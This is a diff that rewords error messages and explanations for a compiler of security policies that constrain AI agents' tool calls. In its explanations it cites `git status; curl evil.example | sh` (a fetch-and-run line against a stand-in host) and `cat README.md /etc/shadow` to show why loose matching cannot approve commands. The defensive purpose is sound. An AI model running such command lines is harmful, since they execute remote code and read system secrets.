@@ -8,26 +8,26 @@ export const nameCodes = {
     severity: "error",
     message: "cannot read {file}: {why}",
     help: "check the path and its permissions",
-    explain: "A file that cannot be read would be rules that are not there, so nothing is built.",
+    explain: "The rules of an unreadable file would be missing from the bundle, so nothing is built.",
   },
   P202: {
     slug: "no-policies",
     severity: "error",
-    message: "{entry} holds no policy file",
-    help: "name a `.policy` file or a folder with one below it",
-    explain: "An empty policy set enforces nothing. Name a `.policy` file, or a folder that has one.",
+    message: "{entry} contains no policy file",
+    help: "name a `.policy` file, or a folder that contains one",
+    explain: "An empty set of policies enforces nothing.",
   },
   P203: {
     slug: "invalid-utf8",
     severity: "error",
     message: "{file} is not valid UTF-8 text",
     help: "save the file as UTF-8",
-    explain: "Policies are UTF-8. Other bytes could look like one rule and mean another.",
+    explain: "Policies are UTF-8 text. Other bytes could look like one rule and mean another.",
   },
   P204: {
     slug: "unknown-pack",
     severity: "error",
-    message: "there is no pack `{pack}`",
+    message: "unknown pack `{pack}`",
     explain: "Packs ship with policyc and their names start with `std/`.",
     bad: `use "std/egres"
 `,
@@ -38,7 +38,7 @@ export const nameCodes = {
     slug: "missing-file",
     severity: "error",
     message: "cannot use `{path}`: {why}",
-    explain: "A `use` names a file from the folder of the file it stands in.",
+    explain: "The path in a `use` is relative to the folder of the file that contains it.",
     bad: `use "no-such-file.policy"
 `,
     good: `use "std/egress"
@@ -47,16 +47,17 @@ export const nameCodes = {
   P206: {
     slug: "use-cycle",
     severity: "error",
-    message: "files use each other in a circle: {cycle}",
-    help: "move what both need into a file of its own",
-    explain: "Whichever were read first would see names that are not there yet.",
+    message: "these files use each other in a cycle: {cycle}",
+    help: "move what both files need into a third file",
+    explain: "Whichever file is read first would refer to names that are not defined yet.",
   },
   P207: {
     slug: "use-settings",
     severity: "error",
     message: "`{file}` is used twice with different settings",
-    help: "give the same `with` and `without` at both places",
-    explain: "A file is part of the bundle once, with one set of parameters. Two that differ cannot both hold.",
+    help: "give the same `with` and `without` in both places",
+    explain:
+      "A file is part of the bundle only once, with one set of parameters, so two different settings cannot both apply.",
     bad: `use "std/egress" with allowed-hosts = ["github.com"]
 use "std/egress"
 `,
@@ -67,7 +68,7 @@ use "std/egress"
     slug: "unknown-param",
     severity: "error",
     message: "{file} has no parameter `{name}`",
-    explain: "A parameter that is not there would be set without any effect.",
+    explain: "Setting a parameter that does not exist would have no effect.",
     bad: `use "std/egress" with allowed-host = ["github.com"]
 `,
     good: `use "std/egress" with allowed-hosts = ["github.com"]
@@ -76,8 +77,8 @@ use "std/egress"
   P209: {
     slug: "unknown-without",
     severity: "error",
-    message: "{file} has no rule `{name}` to leave out",
-    explain: "A misspelt name would leave the rule in, or hide that it was renamed.",
+    message: "{file} has no rule `{name}` to exclude",
+    explain: "A misspelt name would leave the rule in the bundle, or hide that the rule was renamed.",
     bad: `use "std/egress" without only-web-adresses
 `,
     good: `use "std/egress" without only-web-addresses
@@ -86,9 +87,9 @@ use "std/egress"
   P210: {
     slug: "self-is-fixed",
     severity: "error",
-    message: "`{name}` is part of std/self and cannot be left out",
-    help: "leave out the `without`",
-    explain: "std/self keeps an agent from switching its own policy off. It is in every bundle.",
+    message: "`{name}` is part of std/self and cannot be excluded",
+    help: "remove the `without`",
+    explain: "std/self stops an agent from switching off its own policy. It is part of every bundle.",
     bad: `use "std/self" without self-policyc-files
 `,
     good: `use "std/self"
@@ -99,7 +100,7 @@ use "std/egress"
     severity: "error",
     message: "this file is written for language {found}; this compiler knows {known}",
     help: "update policyc, or write `language 1`",
-    explain: "A newer language may mean something else by the same words.",
+    explain: "In a newer version of the language the same words may have another meaning.",
     bad: `language 2
 `,
     good: `language 1
@@ -109,7 +110,7 @@ use "std/egress"
     slug: "unknown-scope",
     severity: "error",
     message: "unknown scope `{name}`",
-    explain: "The scope says which layer a bundle is for; outer ones may only tighten.",
+    explain: "The scope says which layer a bundle belongs to; outer scopes may only make decisions stricter.",
     bad: `scope team
 `,
     good: `scope user
@@ -118,15 +119,15 @@ use "std/egress"
   P213: {
     slug: "scope-conflict",
     severity: "error",
-    message: "this bundle is of scope `{first}`, and this file says `{second}`",
-    help: "one bundle has one scope",
-    explain: "A bundle has one scope. Build the files apart, or agree on one.",
+    message: "this file has scope `{second}`, but the bundle has scope `{first}`",
+    help: "build the files as separate bundles, or give them the same scope",
+    explain: "A bundle has one scope, and all of its files must agree on it.",
   },
   P214: {
     slug: "unknown-target",
     severity: "error",
     message: "unknown target `{name}`",
-    explain: "A target is a host that the capability matrix knows. `policyc capabilities` lists them.",
+    explain: "A target is an agent listed in the capability matrix. `policyc capabilities` prints the list.",
     bad: `target claude-cod
 rule example
   on before_tool_call
@@ -147,7 +148,7 @@ rule example
     severity: "error",
     message: "the {what} `{name}` is declared twice",
     help: "rename one of the two, or remove it",
-    explain: "Only one of the two could count, and a reader would not know which.",
+    explain: "Only one of the two could be used, and a reader would not know which.",
     bad: `let a = "x"
 let a = "y"
 rule example
@@ -167,9 +168,9 @@ rule example
   P216: {
     slug: "taken-name",
     severity: "error",
-    message: "`{name}` is {what}",
+    message: "`{name}` is already {what}",
     help: "choose another name",
-    explain: "A second meaning for a known name would change conditions that read the first.",
+    explain: "A second meaning for an existing name would change the conditions that use the first.",
     bad: `let model = "x"
 `,
     good: `language 1
@@ -178,9 +179,9 @@ rule example
   P217: {
     slug: "duplicate-rule",
     severity: "error",
-    message: "there is another rule `{name}`",
+    message: "there is already a rule `{name}`",
     help: "rename one of the two",
-    explain: "Reasons, logs and tests name rules, so each name stands for one.",
+    explain: "Reasons, logs and tests refer to rules by name, so each name must belong to one rule.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -209,7 +210,7 @@ rule other
     severity: "error",
     message: "`@{name}` is given twice",
     help: "keep one of them",
-    explain: "Only one of the two could count.",
+    explain: "Only one of the two could be used.",
     bad: `@owner("a") @owner("b")
 rule example
   on before_tool_call
@@ -228,7 +229,7 @@ rule example
   P219: {
     slug: "duplicate-header",
     severity: "error",
-    message: "`{word}` is said twice in this file",
+    message: "`{word}` is given twice in this file",
     help: "keep one of them",
     explain: "A file has one language and one scope.",
     bad: `language 1
@@ -241,7 +242,7 @@ language 1
     slug: "no-such-point",
     severity: "error",
     message: "unknown point `{name}`",
-    explain: "A rule on a point that does not exist would never be asked.",
+    explain: "A rule at a point that does not exist would never be evaluated.",
     bad: `rule example
   on PreToolUse
   when tool == "bash"
@@ -259,8 +260,8 @@ language 1
     slug: "duplicate-point",
     severity: "error",
     message: "`{name}` is named twice",
-    help: "leave one out",
-    explain: "A rule is on a point once.",
+    help: "remove one of them",
+    explain: "Naming a point twice has no effect, so it is probably a typing mistake for another point.",
     bad: `rule example
   on before_tool_call, before_tool_call
   when tool == "bash"
@@ -279,7 +280,7 @@ language 1
     severity: "error",
     message: "unknown name `{name}`",
     help: "`LANGUAGE.md` lists the fields of each point",
-    explain: "A field, view or constant that does not exist would never match anything.",
+    explain: "A condition on a field, view or constant that does not exist would never match anything.",
     bad: `rule example
   on user_prompt_submit
   when promt contains "x"
@@ -297,8 +298,8 @@ language 1
     slug: "field-not-here",
     severity: "error",
     message: "`{name}` is not a field of {point}",
-    help: "name a field that this point has",
-    explain: "Each point has fields of its own; with several points only those that all of them have.",
+    help: "use a field of this point",
+    explain: "Each point has its own fields. A rule at several points can use only the fields that all of them have.",
     bad: `rule example
   on before_tool_call
   when prompt contains "x"
@@ -315,9 +316,9 @@ language 1
   P224: {
     slug: "field-needs-tool",
     severity: "error",
-    message: "`{name}` is there only for some tools",
+    message: "only some tools have `{name}`",
     help: "test the tool first",
-    explain: "The fields of `input` depend on the tool, so the condition must say which tool it is about.",
+    explain: "The fields of `input` depend on the tool, so the condition must test the tool first.",
     bad: `rule example
   on before_tool_call
   when input.path under "src"
@@ -336,7 +337,7 @@ language 1
     severity: "error",
     message: "{owner} has no field `{name}`",
     help: "`LANGUAGE.md` lists the fields of each tool",
-    explain: "A field that does not exist would never match anything.",
+    explain: "A condition on a field that does not exist would never match anything.",
     bad: `rule example
   on before_tool_call
   when tool == "bash" and input.comand is present
@@ -353,10 +354,10 @@ language 1
   P226: {
     slug: "unknown-function",
     severity: "error",
-    message: "there is no function `{name}` that gives a value here",
-    help: "functions are lower, length, mask, file_exists, git_branch, env, hour, weekday",
+    message: "there is no function `{name}` that returns a value",
+    help: "the functions are lower, length, mask, file_exists, git_branch, env, hour and weekday",
     explain:
-      "Functions are lower, length, mask, file_exists, git_branch, env, hour and weekday, and the conditions named by `def`.",
+      "The functions that give a value are lower, length, mask, file_exists, git_branch, env, hour and weekday. A `def` gives a condition, not a value.",
     bad: `rule example
   on before_tool_call
   when tool == "bash" and git_brnch() == "main"
@@ -374,7 +375,7 @@ language 1
     slug: "unknown-is-word",
     severity: "error",
     message: "`is {word}` is not a test",
-    explain: "After `is` stands one of present, missing, root, home, system, policyc.",
+    explain: "The words that can follow `is` are present, missing, root, home, system and policyc.",
     bad: `rule example
   on before_tool_call
   when tool == "bash" and input.shell is presnt
@@ -392,7 +393,7 @@ language 1
     slug: "unknown-annotation",
     severity: "error",
     message: "unknown annotation `@{name}`",
-    explain: "Annotations are @severity, @owner, @doc and @shadow.",
+    explain: "The annotations are @severity, @owner, @doc and @shadow.",
     bad: `@ower("a")
 rule example
   on before_tool_call
@@ -412,8 +413,8 @@ rule example
     slug: "annotation-text",
     severity: "error",
     message: "`@{name}` {why}",
-    help: "put it right, or leave the annotation out",
-    explain: "Reports sort rules by these words, so they are checked.",
+    help: "correct the annotation, or remove it",
+    explain: "Reports group rules by their annotations, so their text is checked.",
     bad: `@severity("urgent")
 rule example
   on before_tool_call
@@ -432,8 +433,8 @@ rule example
   P230: {
     slug: "unknown-type",
     severity: "error",
-    message: "`{name}` is not a type here",
-    explain: "Types are string, int, bool, duration, path, host, command, json and list<...>.",
+    message: "unknown type `{name}`",
+    explain: "The types are string, int, bool, duration, path, host, command, json and list<...>.",
     bad: `tool deploy { env: text }
 `,
     good: `tool deploy { env: string }
@@ -461,9 +462,9 @@ rule example
   P232: {
     slug: "unknown-label",
     severity: "error",
-    message: "nothing marks `{label}`",
-    help: "let a rule mark it",
-    explain: "A label that no rule sets is never there, so the test would be decided for good.",
+    message: "no rule marks `{label}`",
+    help: "add `mark {label}` to a rule",
+    explain: "A label that no rule marks is never set, so the test would always have the same result.",
     bad: `rule example
   on before_tool_call
   when tool == "bash" and marked(seen)
@@ -485,9 +486,9 @@ rule example
   P233: {
     slug: "unknown-counter",
     severity: "error",
-    message: "nothing counts `{counter}`",
-    help: "let a rule count it",
-    explain: "A counter that no rule raises stays at zero.",
+    message: "no rule counts `{counter}`",
+    help: "add `count {counter}` to a rule",
+    explain: "A counter that no rule increases is always zero.",
     bad: `rule example
   on before_tool_call
   when tool == "bash" and counted(calls, 10m) > 3
@@ -509,10 +510,10 @@ rule example
   P234: {
     slug: "early-label",
     severity: "error",
-    message: "`{label}` loosens this rule and is marked whether or not anything has succeeded",
-    help: "mark it at after_tool_result, with `not is_error` in the condition",
+    message: "`{label}` relaxes this rule, but it is marked even when the call does not succeed",
+    help: "mark it at `after_tool_result`, with `not is_error` in the condition",
     explain:
-      "An agent could set the label by merely trying. A label under `unless` or `not`, or in a rule that allows, may be marked only at after_* points and on success.",
+      "An agent could set the label merely by attempting the call. A label that appears under `unless` or `not`, or in a rule that allows, may be marked only at `after_*` points and only on success.",
     bad: `rule review
   on before_tool_call
   when tool == "read"
@@ -540,8 +541,8 @@ rule example
     slug: "shadow-only",
     severity: "error",
     message: "only shadow rules set `{name}`",
-    help: "take `@shadow` off that rule, or put it on this one",
-    explain: "Marks and counts of shadow rules are seen by shadow rules only, so this test would never be true.",
+    help: "remove `@shadow` from that rule, or add it to this one",
+    explain: "Only shadow rules see what shadow rules mark and count, so this test would never be true.",
     bad: `@shadow
 rule see
   on before_tool_call
@@ -569,9 +570,9 @@ rule example
   P236: {
     slug: "state-cycle",
     severity: "error",
-    message: "rules that mark or count depend on each other in a circle: {cycle}",
-    help: "let one of them test something else",
-    explain: "Within one event there would be no first rule, and the outcome would depend on the order.",
+    message: "these rules mark or count in a cycle: {cycle}",
+    help: "make one of them test something else",
+    explain: "Each rule would have to be evaluated before the other, so the outcome would depend on their order.",
     bad: `rule one
   on before_tool_call
   when marked(b)
@@ -598,9 +599,9 @@ rule two
   P237: {
     slug: "recursive-name",
     severity: "error",
-    message: "`{name}` is defined by itself, or too deeply",
-    help: "write the condition without naming itself",
-    explain: "Constants and predicates are put in place where they are used, so none may need itself.",
+    message: "the definition of `{name}` refers to itself, or is nested too deeply",
+    help: "write the definition without using its own name",
+    explain: "Constants and predicates are expanded where they are used, so none can depend on itself.",
     bad: `def again(x: string) = again(x)
 rule example
   on before_tool_call
@@ -619,15 +620,15 @@ rule example
     slug: "too-much-text",
     severity: "error",
     message: "`{name}` expands to too many conditions",
-    help: "test less, or write the condition once",
-    explain: "A `def` is put in place at every use, and these multiply.",
+    help: "test less, or use the definition fewer times",
+    explain: "A `def` is expanded at every use, and nested uses multiply.",
   },
   P241: {
     slug: "shipped-tool",
     severity: "error",
-    message: "`{name}` is a tool the language already has",
+    message: "`{name}` is already a tool of the language",
     help: "choose another name",
-    explain: "The fields of shipped tools are the same everywhere.",
+    explain: "The fields of built-in tools are the same in every policy.",
     bad: `tool bash { command: string }
 `,
     good: `tool deploy { env: string }
@@ -636,10 +637,10 @@ rule example
   P242: {
     slug: "bad-tool-schema",
     severity: "error",
-    message: "{file} does not describe a tool: {why}",
+    message: "{file} is not the schema of a tool: {why}",
     help: "a tool's schema is a JSON object with `properties`",
     explain:
-      "The JSON Schema of a tool is an object with `properties`, and `required` for those that are always there.",
+      "The JSON Schema of a tool is an object with `properties`, and with `required` for the properties that are always present.",
     bad: `tool deploy from "no-such.schema.json"
 `,
     good: `tool deploy { env: string }
@@ -648,8 +649,8 @@ rule example
   P243: {
     slug: "two-outcomes",
     severity: "error",
-    message: "a rule has one outcome, and this one has both `{first}` and `{second}`",
-    explain: "With two outcomes a forgotten `else` or `may` would change what the rule does.",
+    message: "a rule can have only one outcome, and this one has `{first}` and `{second}`",
+    explain: "With two outcomes it would not be clear what the rule does; often an `else` or a `may` is missing.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -668,7 +669,7 @@ rule example
     severity: "error",
     message: "`{effect}` is given twice",
     help: "keep one of them",
-    explain: "Only one of the two could count.",
+    explain: "Only one of the two could be used.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -685,9 +686,8 @@ rule example
   P245: {
     slug: "bad-else",
     severity: "error",
-    message: "`{word}` cannot stand in for `{before}`",
-    explain:
-      "A degradation that the author writes may be milder, never nothing at all for a restriction and never an approval.",
+    message: "`{word}` cannot replace `{before}` in an `else`",
+    explain: "An `else` may name a milder effect, but it cannot turn a restriction into nothing or into an approval.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -704,8 +704,9 @@ rule example
   P246: {
     slug: "bad-if-unknown",
     severity: "error",
-    message: "this `if unknown` cannot stand: {why}",
-    explain: "When a condition cannot be told, a restricting rule asks, blocks or stops; less knowledge never loosens.",
+    message: "this `if unknown` is not possible: {why}",
+    explain:
+      "When a condition cannot be determined, a restricting rule asks, blocks or stops: less information never makes a decision less strict.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -723,8 +724,8 @@ rule example
     slug: "cannot-set",
     severity: "error",
     message: "`{field}` cannot be set at {point}",
-    help: "set a field that this point lets be set",
-    explain: "Each point has few fields that can be rewritten; a host would ignore all others.",
+    help: "set one of the fields that can be rewritten at this point",
+    explain: "Only a few fields can be rewritten at each point; an agent would ignore changes to all others.",
     bad: `rule example
   on user_prompt_submit
   when prompt contains "x"
@@ -741,9 +742,9 @@ rule example
   P248: {
     slug: "allow-needs-tool",
     severity: "error",
-    message: "a rule that allows must say for which tools",
+    message: "a rule that allows must name the tools it allows",
     help: 'test the tool: `tool == "read" and ...`',
-    explain: "An approval skips the host's confirmation, so it must name what it approves.",
+    explain: "An approval skips the agent's own confirmation, so it must name what it approves.",
     bad: `rule example
   on before_tool_call
   when tool_name starts with "Read"
@@ -760,9 +761,9 @@ rule example
   P249: {
     slug: "allow-with-any",
     severity: "error",
-    message: "`any` cannot approve a call: one element that fits says nothing about the others",
+    message: "`any` cannot approve a call: one element that matches says nothing about the others",
     help: "write `all` instead of `any`",
-    explain: "`cat README.md /etc/shadow` reads a file of the project too. An approval must hold of all elements.",
+    explain: "`cat README.md /etc/shadow` also reads a file of the project. An approval must be true of all elements.",
     bad: `rule example
   on before_tool_call
   when tool == "read" and any reads under "docs"
@@ -780,9 +781,9 @@ rule example
     slug: "allow-with-text",
     severity: "error",
     message: "`{test}` on a command line cannot approve it",
-    help: 'say what it may run and nothing else: `command only runs "git status"`',
+    help: 'list everything it may run: `command only runs "git status"`',
     explain:
-      '`git status; curl evil.example | sh` contains, starts with and matches `git status` too. `command only runs` holds only of a command that is understood as a whole; the whole text may also be compared: `command == "git status"`.',
+      '`git status; curl evil.example | sh` also contains, starts with and matches `git status`. `command only runs` is true only if the whole command line is understood. Comparing the whole text is possible too: `command == "git status"`.',
     bad: `rule example
   on before_tool_call
   when tool == "bash" and command starts with "git status"
@@ -799,9 +800,9 @@ rule example
   P251: {
     slug: "bad-hole",
     severity: "error",
-    message: "`{text}` cannot stand in braces in a message",
-    help: "name a field, as in `tool`, or write `\\\\{` for a brace",
-    explain: "In a message `{name}` is replaced by the field; anything else in braces is a slip.",
+    message: "`{text}` cannot be used in braces in a message",
+    help: "use the name of a field, such as `tool`, or write `\\\\{` for a brace",
+    explain: "In a message `{name}` is replaced with the value of the field; anything else in braces is a mistake.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -818,9 +819,9 @@ rule example
   P252: {
     slug: "empty-message",
     severity: "error",
-    message: "`{effect}` needs a message that says something",
+    message: "the message of `{effect}` is empty",
     help: "say what to do instead",
-    explain: "A person or a model reads it and must know what to do instead.",
+    explain: "A person or a model reads the message and must learn what to do instead.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -839,7 +840,7 @@ rule example
     severity: "error",
     message: "{where} has no field `{name}`",
     help: "leave it out",
-    explain: "An example with a field that no event has shows nothing.",
+    explain: "An example with a field that no event has proves nothing.",
     bad: `rule example
   on user_prompt_submit
   when prompt contains "x"
@@ -858,7 +859,7 @@ rule example
     severity: "error",
     message: "{where} needs the field `{name}`",
     help: "add it to the event",
-    explain: "An event without it would be refused by the runtime, so it proves nothing.",
+    explain: "The runtime would refuse an event without this field, so the example proves nothing.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -876,7 +877,8 @@ rule example
     slug: "unknown-given",
     severity: "error",
     message: "`given` has no `{name}`",
-    explain: "What an example needs of the world is one of git_branch, file_exists, env, marked, counted, time.",
+    explain:
+      "`given` describes the circumstances of an example: git_branch, file_exists, env, marked, counted and time.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -895,7 +897,7 @@ rule example
     severity: "error",
     message: "this example cannot be an event of the rule: {why}",
     help: "write the event as an object, with `point` where the rule has several",
-    explain: "A string stands for the command of a shell call, or for the text a point is about.",
+    explain: "A string is short for the command of a shell call, or for the text that the point is about.",
     bad: `rule example
   on before_tool_call, user_prompt_submit
   when session_id == "a"
@@ -913,7 +915,7 @@ rule example
     slug: "unknown-outcome",
     severity: "error",
     message: "`{name}` is not an outcome",
-    explain: "A decision is one of pass, allow, ask, respond, block, stop.",
+    explain: "The outcomes of a decision are pass, allow, ask, respond, block and stop.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -938,7 +940,7 @@ test "warns" {
     severity: "error",
     message: "there is no rule `{name}`",
     help: "name a rule of this bundle",
-    explain: "A test that names a rule which does not exist could never pass, or would hide that a rule was renamed.",
+    explain: "A test that names a rule which does not exist could never pass, or would hide that the rule was renamed.",
     bad: `rule example
   on before_tool_call
   when tool == "bash"
@@ -963,7 +965,7 @@ test "blocks" {
     severity: "warning",
     message: "nothing uses `{name}`",
     help: "use it or remove it",
-    explain: "A constant or predicate that nothing reads is often a rule that was meant and not written.",
+    explain: "An unused constant or predicate often means that a rule was planned and never written.",
     bad: `let frozen = ["main"]
 rule example
   on before_tool_call
@@ -984,7 +986,7 @@ rule example
     severity: "error",
     message: "the test `{name}` has no steps",
     help: "add a step: `on POINT ... expect ...`",
-    explain: "A test that checks nothing is always green.",
+    explain: "A test that checks nothing always passes.",
     bad: `test "keys" {
 }
 `,
@@ -997,8 +999,8 @@ rule example
     slug: "never-there",
     severity: "error",
     message: "`{name}` is always empty when the tool is {tools}",
-    help: "test a tool that has it, or another view",
-    explain: "A test of something that the tool never has would never be true, and the rule would never fire.",
+    help: "test a tool that has it, or use another view",
+    explain: "A test of something that the tool never has is never true, so the rule would never fire.",
     bad: `rule example
   on before_tool_call
   when tool == "read" and any writes under "src"
@@ -1015,9 +1017,9 @@ rule example
     slug: "bad-program",
     severity: "error",
     message: "`{name}` cannot be declared like this: {why}",
-    help: "a declaration adds what the shipped tables do not know",
+    help: "a declaration can only add what the built-in tables do not know",
     explain:
-      "How a program reads its words decides what its commands mean, so a declaration may add to the tables that come with policyc and never change them.",
+      "The meaning of a command depends on how its program reads its arguments, so a declaration may add to the built-in tables but never change them.",
     bad: `program "git" { flag "--git-dir" }
 `,
     good: `program "acme-run" { wrapper, flag "-e" takes value }
@@ -1028,7 +1030,7 @@ rule example
     severity: "error",
     message: "`flows` cannot {verb} with `{word}`",
     explain:
-      "Data comes from a download, a secret or a file, and goes into an interpreter, the network or a file. Other words mean nothing.",
+      "Data flows from a download, a secret or a file, and into an interpreter, the network or a file. No other words are known.",
     bad: `rule example
   on before_tool_call
   when command flows downloads into interpreter
@@ -1045,10 +1047,10 @@ rule example
   P264: {
     slug: "allow-with-part",
     severity: "error",
-    message: "`{test}` cannot approve a command: `{slip}` passes it too",
-    help: 'say what it may run and nothing else: `command only runs "..."`',
+    message: "`{test}` cannot approve a command: it is also true of `{slip}`",
+    help: 'list everything it may run: `command only runs "..."`',
     explain:
-      "One command of a line, one flow, or the files it touches say nothing about what else the line does. `command only runs` is true only if the whole line is understood and every command of it is listed.",
+      "One command, one flow or the files that a line touches say nothing about what else the line does. `command only runs` is true only if the whole line is understood and every command in it is listed.",
     bad: `rule example
   on before_tool_call
   when command runs "git status"
@@ -1065,8 +1067,8 @@ rule example
   P265: {
     slug: "needs-part",
     severity: "error",
-    message: "`{name}` is {what}, and cannot be tested as a whole",
-    explain: "A command has a program, words, files and more. A test must say which of them it is about.",
+    message: "`{name}` is {what} and cannot be tested as a whole",
+    explain: "A command has a program, arguments, files and more. A test must name the part that it is about.",
     bad: `rule example
   on before_tool_call
   when any command.calls == "git"
